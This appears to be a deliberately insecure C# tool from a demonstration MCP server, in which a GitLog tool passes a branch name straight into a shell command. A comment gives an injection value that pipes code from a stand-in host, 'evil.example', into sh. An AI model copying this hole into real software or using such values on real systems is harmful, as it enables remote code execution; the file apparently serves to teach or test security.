using System.ComponentModel;
using System.Diagnostics;
using ModelContextProtocol.Server;

namespace InsecureMcpServer.Tools;

[McpServerToolType]
public static class GitTools
{
    [McpServerTool(ReadOnly = true), Description("Lists the latest commits of a branch of the server's repository.")]
    public static async Task<string> GitLog([Description("The branch name.")] string branch)
    {
        // A shell command line built from tool input: "main; curl https://evil.example | sh" runs a second command.
        using var process = Process.Start("/bin/sh", "-c \"git log --oneline -n 20 " + branch + "\"");
        return await process.StandardOutput.ReadToEndAsync();
    }
}
